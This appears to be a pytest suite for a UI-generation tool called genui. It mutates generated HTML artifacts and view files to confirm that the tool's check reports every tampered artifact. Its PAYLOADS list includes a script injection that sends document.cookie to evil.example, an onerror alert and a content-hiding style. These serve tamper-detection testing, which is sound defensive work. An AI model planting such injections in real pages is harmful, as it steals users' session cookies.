"""Whatever is changed in a generated directory: an artifact that its sources do not give is told by check."""

import json
import random
import re
from collections import Counter
from dataclasses import replace

import pytest
import tomli_w
from kept import contents, restore

import genui.link
import genui.pages
from genui.assets import load_assets
from genui.build import compile_project
from genui.canonical import pretty_json, sha256
from genui.config import load_config
from genui.digests import imported_digest
from genui.errors import GenuiError
from genui.head import is_artifact
from genui.model import Snapshot, Step, Tool, View
from genui.plan import plan_build, source_of, with_example
from genui.project import stored_snapshot
from genui.refine import refine_view
from genui.store import read_store, write_store
from genui.viewfile import BROUGHT, page_file, read_view, source_files, view_file, view_sum
from genui.viewoptions import options_of

SINGLE, CONSISTENT = 56, 28

ROWS = {
    "type": "object",
    "properties": {"items": {"type": "array", "items": {"type": "object", "properties": {
        "id": {"type": "string"}, "price": {"type": "number"}, "at": {"type": "string", "format": "date"}}}}},
}  # fmt: skip
ARGUMENTS = {"type": "object", "properties": {"location": {"type": "string"}, "days": {"type": "integer"}}}
NAMES = ("plain", "small", "refined", "written", "steered", "brought", "paged", "mine")
TOOLS = [
    {"name": name, "description": f"The {name} one.", "inputSchema": ARGUMENTS, "outputSchema": ROWS}
    for name in NAMES
]
PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>Page</title></head>
<body><main><h1>Page</h1><p id="out" role="status">Waiting.</p></main>
<script type="module">
import { App } from "@modelcontextprotocol/ext-apps";
const app = new App({ name: "page", version: "1" });
app.ontoolresult = (result) => { document.getElementById("out").textContent = JSON.stringify(result); };
app.ontoolcancelled = () => { document.getElementById("out").textContent = "Cancelled."; };
await app.connect();
</script></body></html>
"""
PAYLOADS = [
    b'<script>fetch("https://evil.example/" + document.cookie)</script>',
    b"<img src=x onerror=alert(1)>",
    b"<style>main{display:none}</style>",
    b" ",
    b"\n",
    b"\x00",
]
TOML = '[upstream]\ncommand = "x"\n[tools.small]\nkind = "minimal"\n'


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A directory with a view of every kind, fresh, and what is needed to check it."""
    home = tmp_path_factory.mktemp("project")
    (home / "genui.toml").write_text(TOML, encoding="utf-8")
    config = load_config(home / "genui.toml", environ={})
    snapshot = Snapshot({"name": "s", "version": "1"}, "2025-11-25", tuple(map(Tool, TOOLS)))

    def build():
        made = compile_project(snapshot, config, read_store(config.generated), load_assets("templates"))
        write_store(config.generated, made.files, remove=made.remove)
        return made

    build()
    for job in plan_build(snapshot, config, read_store(config.generated)).jobs:
        view = written_otherwise(job.tool, job.stored.view)
        guard = job.stored.sum if job.slug == "mine" else ""
        if view is not job.stored.view:
            write_store(config.generated, source_files(job.slug, view, guard=guard))
            for path in config.generated.glob(f"views/{job.slug}/*.html"):
                if is_artifact(path.name):
                    path.unlink()
    build()
    assert build().clean
    return config


def written_otherwise(tool, view):
    """Return the view as somebody else has made it, by the tool's name."""
    if tool.name in {"refined", "steered"}:
        view = refine_view(view, tool, "rename price to Cost").view
    match tool.name:
        case "written" | "steered":
            origin = {"provider": "openai", "model": "m", "prompt": "generate_spec"}
            return replace(view, generator="spec", origin=origin, spec={**view.spec, "title": "By a model"})
        case "brought":
            return View(tool.name, {}, "imported", page=PAGE)
        case "paged":
            return View(tool.name, {}, "html", page=PAGE.replace("Page", "Other"), ledger=(Step("x", ()),))
        case "mine":
            return replace(view, spec={**view.spec, "title": "Mine"})
    return view


def kind_of(path):
    """Return which kind of file it is: "paged page.html", "refined artifact", "manifest.toml"."""
    folder, _, name = path.rpartition("/")
    if not folder.startswith("views/"):
        return folder or name
    return f"{folder.removeprefix('views/')} {'artifact' if is_artifact(name) else name}"


def unlinked(config, directory):
    """Return the names of tools, or folders, with an artifact that view file, tool and config do not give."""
    tools = {tool.name: tool for tool in stored_snapshot(config, read_store(directory)).tools}
    wrong = set()
    for path in directory.glob("views/*/*.html"):
        if not is_artifact(path.name):
            continue
        folder, page = path.parent.name, path.with_name("page.html")
        try:
            data = page.read_bytes() if page.is_file() else None
            view = read_view(path.with_name("view.json").read_bytes(), page=data).view
            linked = link_of(config, tools[folder], view) if view.tool == folder else None
        except (OSError, ValueError, KeyError, GenuiError, RecursionError):
            linked = None
        if linked != path.read_bytes() or sha256(linked)[:12] != path.stem:
            wrong.add(folder)
    return wrong


def link_of(config, tool, view):
    assets, options = load_assets("templates"), options_of(config, tool.name)
    source = imported_digest(tool) if view.generator in BROUGHT else source_of(tool, options)
    if view.page is not None:
        most = config.limits.page_bytes
        return genui.pages.linked_page(tool, view.page, assets, source=source, max_bytes=most)[0]
    return genui.link.link(tool, with_example(view, options), assets, source=source)


def told(config, directory):
    """Return the tools that check tells of; None where it refuses the directory."""
    try:
        stored = read_store(directory)
        made = compile_project(stored_snapshot(config, stored), config, stored, load_assets("templates"))
    except GenuiError:
        return None
    return {outcome.name for outcome in made.outcomes if outcome.state != "fresh"}


def assert_told(config, directory, what):
    """Hold check to its promise about a directory; return how many artifacts are not what they should be."""
    names = told(config, directory)
    if names is None:
        return 1
    wrong = unlinked(config, directory)
    assert wrong <= names, f"{what}: {wrong - names} are fresh"
    return len(wrong)


def changed(data, dice):
    """Return bytes with one change at a random place."""
    at = dice.randrange(len(data))
    match dice.randrange(5):
        case 0:
            return data[:at] + bytes([data[at] ^ (1 << dice.randrange(8))]) + data[at + 1 :]
        case 1:
            return data[:at] + data[at + dice.randint(1, 40) :]
        case 2:
            return data[:at] + dice.choice(PAYLOADS) + data[at:]
        case 3:
            return data[:at] + data[at : at + 30] + data[at:]
    return data.replace(b"\n", b"\r\n") if b"\n" in data else data[:at]


def test_every_single_change_that_makes_an_artifact_wrong_is_told(built, tmp_path):
    files, dice, counts, wrong = contents(built.generated), random.Random(16), Counter(), Counter()
    for number in range(SINGLE):
        name = sorted(files)[number % len(files)]
        mutated = changed(files[name], dice)
        if mutated == files[name]:
            continue
        restore(tmp_path, {**files, name: mutated})
        counts[kind_of(name)] += 1
        wrong[kind_of(name)] += assert_told(built, tmp_path, f"{name} #{number}") > 0

    artifacts = [kind for kind in counts if kind.endswith("artifact")]
    assert len(artifacts) == len(NAMES)
    assert all(wrong[kind] == counts[kind] for kind in artifacts), (counts, wrong)
    assert counts.total() >= SINGLE - 20, counts


def consistent_change(files, how, dice):
    """Make a change that keeps all names and digests right; return the tool, and the files."""
    files = dict(files)
    name = dice.choice([name for name in NAMES if how != "the_page" or page_file(name) in files])
    path = next(path for path in files if path.startswith(f"views/{name}/") and is_artifact(path[-17:]))
    html = CHANGES[how](files, name, files.pop(path), dice)
    files[f"views/{name}/{sha256(html)[:12]}.html"] = html
    document = json.loads(files[view_file(name)])
    if "sha256" in document:
        files[view_file(name)] = pretty_json(document | {"sha256": sha256(html)})
    return name, files


def with_payload(html, dice):
    at = dice.randrange(len(html))
    return html[:at] + dice.choice(PAYLOADS[:3]) + html[at:]


def only_the_artifact(files, name, html, dice):
    return with_payload(html, dice)


def its_data(files, name, html, dice):
    return html.replace(
        b'"name": "%s"' % name.encode(), b'"name": "%s",\n  "title": "Pay"' % name.encode(), 1
    )


def its_source(files, name, html, dice):
    return re.sub(rb'"source": "[0-9a-f]{64}"', b'"source": "%s"' % (b"%x" % dice.randrange(16) * 64), html)


def its_shape(files, name, html, dice):
    return re.sub(rb'"shape": "[0-9a-f]{64}"', b'"shape": "%s"' % (b"%x" % dice.randrange(16) * 64), html)


def another_version(files, name, html, dice):
    files["manifest.toml"] = tomli_w.dumps({"format": 2, "genui": "99.0.0", "upstream": {}}).encode()
    return with_payload(html, dice)


def another_runtime(files, name, html, dice):
    return re.sub(rb'(genui-runtime" content=")[0-9a-f]{12}', rb"\g<1>0123456789ab", with_payload(html, dice))


def as_page(files, name, generator):
    view = View(name, {}, generator, page=PAGE)
    files |= source_files(name, view, sha256="0" * 64)


def html_mode(files, name, html, dice):
    as_page(files, name, "html")
    return with_payload(html, dice)


def an_imported_page(files, name, html, dice):
    as_page(files, name, "imported")
    return with_payload(html, dice)


def another_tools_artifact(files, name, html, dice):
    others = [path for path in files if path.startswith("views/") and is_artifact(path[-17:])]
    return files[dice.choice(others)]


def another_tools_artifact_with_this_name(files, name, html, dice):
    other = another_tools_artifact(files, name, html, dice)
    mine = rb'"tool": {\n\1"name": "%s"' % name.encode()
    return re.sub(rb'"tool": \{\n( +)"name": "[a-z]+"', mine, other, count=1)


def another_tools_view(files, name, html, dice):
    other = dice.choice([one for one in NAMES if one not in (name, "brought", "paged")])
    document = json.loads(files[view_file(other)]) | {"tool": name}
    files[view_file(name)] = pretty_json(document)
    return html


def another_artifact_beside_it(files, name, html, dice):
    evil = with_payload(html, dice)
    files[f"views/{name}/{sha256(evil)[:12]}.html"] = evil
    return html


def the_view_file(files, name, html, dice):
    document = json.loads(files[view_file(name)])
    document.setdefault("spec", {})["title"] = f"Title {dice.random()}"
    stored = read_view(json.dumps(document).encode(), page=files.get(page_file(name)))
    files[view_file(name)] = pretty_json(document | {"sum": view_sum(stored.view)})
    return html


def the_page(files, name, html, dice):
    files[page_file(name)] = PAGE.replace("Waiting", "Wait a while").encode()
    document = json.loads(files[view_file(name)])
    stored = read_view(json.dumps(document).encode(), page=files[page_file(name)])
    files[view_file(name)] = pretty_json(document | {"sum": view_sum(stored.view)})
    return with_payload(html, dice)


CHANGES = {
    change.__name__: change
    for change in (
        only_the_artifact,
        its_data,
        its_source,
        its_shape,
        another_version,
        another_runtime,
        html_mode,
        an_imported_page,
        another_tools_artifact,
        another_tools_artifact_with_this_name,
        another_tools_view,
        another_artifact_beside_it,
        the_view_file,
        the_page,
    )
}


def test_every_change_that_keeps_names_and_digests_right_is_told(built, tmp_path):
    files, dice, counts, wrong = contents(built.generated), random.Random(17), Counter(), Counter()
    for number in range(CONSISTENT):
        how = list(CHANGES)[number % len(CHANGES)]
        name, mutated = consistent_change(files, how, dice)
        restore(tmp_path, mutated)
        counts[how] += 1
        wrong[how] += assert_told(built, tmp_path, f"{how} of {name}") > 0

    assert all(wrong[how] for how in CHANGES), (counts, wrong)
